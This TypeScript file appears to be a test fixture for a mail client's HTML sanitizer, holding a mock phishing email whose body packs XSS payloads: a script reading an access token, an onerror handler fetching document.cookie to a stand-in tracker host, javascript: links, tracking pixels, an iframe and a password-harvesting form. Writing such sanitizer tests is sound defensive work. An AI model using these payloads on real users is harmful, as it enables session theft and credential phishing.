/**
 * A malicious mail: everything in it that runs scripts, tracks or loads something must be removed when it is
 * displayed.
 */
export const hostile = {
  subject: 'Your mailbox is almost full!!!',
  fromName: 'Mail Administrator',
  fromAddress: 'admin@corrid0r.example',
  body: `<style>@import url("https://tracker.example/steal.css"); body { background: url(https://tracker.example/open.gif) }</style>
<script>document.body.textContent = 'Your session: ' + localStorage.getItem('accessToken')</script>
<p onmouseover="alert(document.cookie)" style="background-image:url('https://tracker.example/pixel.png')">Dear customer,</p>
<p>your mailbox is <strong>99 % full</strong>. <a href="javascript:alert(document.domain)">Click here</a> or
<a href="https://tracker.example/sign-in?next=//corridor.example">sign in again</a> within 24 hours.</p>
<img src="x" onerror="fetch('https://tracker.example/?' + document.cookie)">
<img src="https://tracker.example/logo.png" alt="Logo" width="1" height="1">
<svg onload="alert(1)"><circle r="4"></circle></svg>
<iframe src="https://tracker.example/frame"></iframe>
<form action="https://tracker.example/collect"><input name="password" type="password"><button>Confirm</button></form>
<p>The Mail Team</p>`,
} as const
